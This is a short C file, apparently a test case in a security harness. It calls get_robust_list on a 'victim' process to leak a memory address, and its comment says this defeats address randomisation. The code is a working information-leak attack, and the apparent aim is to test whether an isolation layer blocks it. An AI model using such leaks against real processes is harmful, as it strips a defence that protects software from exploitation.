#include "attack.h"
// get_robust_list tells an address of the victim: the end of its address randomisation.
ATTACK(.judge = "secret:robust") {
  void *head = NULL;
  size_t size;
  if (syscall(SYS_get_robust_list, num("victim"), &head, &size)) return note("get_robust_list");
  say("robust %p\n", head);
}
